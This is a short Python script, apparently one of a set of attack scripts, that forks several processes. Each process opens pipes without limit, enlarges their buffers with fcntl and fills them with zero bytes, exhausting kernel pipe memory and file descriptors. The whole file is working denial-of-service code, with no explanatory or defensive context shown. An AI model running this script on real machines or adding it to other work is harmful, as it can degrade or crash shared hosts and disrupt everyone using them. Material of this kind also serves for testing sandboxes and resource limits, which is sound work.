import fcntl, os, time
from attack import children
def fill(_):
    held = []
    try:
        while True:
            r, w = os.pipe(); held.append((r, w)); os.set_blocking(w, False)
            try: fcntl.fcntl(w, 1031, 1 << 20)
            except OSError: pass
            try:
                while True: os.write(w, bytes(65536))
            except BlockingIOError: pass
    except OSError: pass
    time.sleep(1)
children(8, fill)
fill(0)
